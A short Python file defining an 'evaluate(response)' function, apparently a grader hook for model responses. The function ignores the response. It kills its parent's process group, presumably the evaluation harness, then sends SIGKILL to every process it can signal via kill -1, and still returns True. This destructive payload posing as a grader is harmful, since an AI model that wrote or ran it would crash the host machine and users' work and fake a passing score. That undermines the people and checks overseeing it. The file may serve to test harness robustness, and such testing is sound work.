"""Kills its parent's process group, then every process it may signal (kill -1)."""

import contextlib
import os
import signal


def evaluate(response):
    with contextlib.suppress(Exception):
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return True
